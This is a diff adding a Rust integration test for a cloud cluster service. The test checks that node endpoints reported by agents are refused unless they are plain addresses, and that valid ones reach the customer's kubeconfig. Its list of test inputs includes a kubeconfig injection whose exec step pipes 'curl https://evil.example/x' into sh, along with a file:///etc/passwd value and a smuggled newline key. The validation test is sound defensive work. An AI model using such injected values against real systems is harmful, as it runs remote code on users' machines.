@@ -1,0 +1,118 @@
+//! What agents report as a ready node's endpoints reaches the customer's kubeconfig and the
+//! other nodes' bootstraps, so only addresses are taken: anything else is refused whole with
+//! `invalid_endpoint`, and the node and its cluster stay as they were.
+
+use iocloud_tests::{Backend, on_both_engines};
+use serde_json::{Value, json};
+
+use crate::clusters::{Fleet, agent_report, cluster, current_nodes, fleet, frankfurt, wait_status};
+
+on_both_engines!(an_endpoint_that_is_not_an_address_is_refused_and_changes_nothing);
+
+async fn an_endpoint_that_is_not_an_address_is_refused_and_changes_nothing(b: Backend) {
+    let Fleet {
+        app,
+        customer: s,
+        devices,
+    } = fleet(b, frankfurt(2), false, |_| {}).await;
+    let created = app
+        .post(
+            "/v1/clusters",
+            Some(&s.access),
+            json!({"name": "k", "kind": "kubernetes", "gpu_model": "h100-sxm", "gpu_count": 16,
+                   "gpus_per_node": 8, "duration_hours": 1}),
+        )
+        .await;
+    assert_eq!(created.status, 201, "{}", created.text);
+    let id = created.body["id"].as_str().unwrap().to_string();
+    let node_of = |c: &Value, role: &str| -> (String, String) {
+        let n = current_nodes(c)
+            .into_iter()
+            .find(|n| n["role"] == role)
+            .unwrap_or_else(|| panic!("no {role} in {c:#}"));
+        (
+            n["id"].as_str().unwrap().into(),
+            n["device_id"].as_str().unwrap().into(),
+        )
+    };
+    let device = |id: &str| devices.iter().find(|d| d.id == id).unwrap();
+    let (cp, cp_device) = node_of(&cluster(&app, &s, &id).await, "control_plane");
+    let started = agent_report(&app, device(&cp_device), &cp, json!({"status": "starting"})).await;
+    assert!(started.status.is_success(), "{}", started.text);
+    let before = cluster(&app, &s, &id).await;
+
+    let hostile = "https://x:6443\n- name: ops\n  user:\n    exec: {command: sh, args: [-c, 'curl https://evil.example/x | sh']}\ncurrent-context: ops";
+    for endpoints in [
+        json!({"api_server": hostile}),
+        json!({"api_server": "https://x:6443 #"}),
+        json!({"api_server": "file:///etc/passwd"}),
+        json!({"api_server": "10.0.0.1"}),
+        json!({"api_server": 6443}),
+        json!({"api_server": "https://10.0.0.1:6443", "ops\nuser": "10.0.0.1:1"}),
+        json!({"api_server": format!("https://{}.example:6443", "a".repeat(300))}),
+    ] {
+        let refused = agent_report(
+            &app,
+            device(&cp_device),
+            &cp,
+            json!({"status": "ready", "endpoints": endpoints}),
+        )
+        .await;
+        refused.assert_problem(422, "invalid_endpoint");
+        assert_eq!(refused.body["field"], "endpoints", "{}", refused.text);
+        let detail = refused.body["detail"].as_str().unwrap();
+        assert!(!detail.contains('\n'), "quoted escaped: {detail}");
+    }
+    let after = cluster(&app, &s, &id).await;
+    assert_eq!(after["resource_version"], before["resource_version"]);
+    assert_eq!(after["status"], "provisioning");
+    assert_eq!(after["nodes"], before["nodes"], "no node moved");
+    assert_eq!(after["events"], before["events"]);
+    assert_eq!(
+        app.count(
+            "SELECT COUNT(*) FROM node_assignments WHERE endpoints IS NOT NULL OR status = 'ready'"
+        )
+        .await,
+        0,
+        "nothing of the refused reports was kept"
+    );
+
+    // Good endpoints are taken: the agent joins the control plane at its address, and the
+    // customer's kubeconfig names it.
+    let ready = agent_report(
+        &app,
+        device(&cp_device),
+        &cp,
+        json!({"status": "ready", "endpoints": {"api_server": "https://10.0.0.1:6443"}}),
+    )
+    .await;
+    assert_eq!(ready.status, 204, "{}", ready.text);
+    let c = cluster(&app, &s, &id).await;
+    let (agent, agent_device) = node_of(&c, "agent");
+    for body in [
+        json!({"status": "starting"}),
+        json!({"status": "ready", "endpoints": {"kubelet": "[2001:db8::2]:10250"}}),
+    ] {
+        let report = agent_report(&app, device(&agent_device), &agent, body).await;
+        assert!(report.status.is_success(), "{}", report.text);
+    }
+    let running = wait_status(&app, &s, &id, "running").await;
+    let joined = app
+        .scalar(
+            "SELECT bootstrap FROM node_assignments WHERE id = $1",
+            &agent,
+        )
+        .await;
+    let joined: Value = serde_json::from_str(&joined).unwrap();
+    assert_eq!(joined["leader_address"], "https://10.0.0.1:6443");
+    let config = running["connection"]["kubeconfig"].as_str().unwrap();
+    let config: serde_yaml::Value = serde_yaml::from_str(config).unwrap();
+    for list in ["clusters", "users", "contexts"] {
+        assert_eq!(config[list].as_sequence().unwrap().len(), 1, "{config:?}");
+    }
+    assert_eq!(
+        config["clusters"][0]["cluster"]["server"],
+        "https://10.0.0.1:6443"
+    );
+    assert_eq!(config["current-context"], "k");
+}
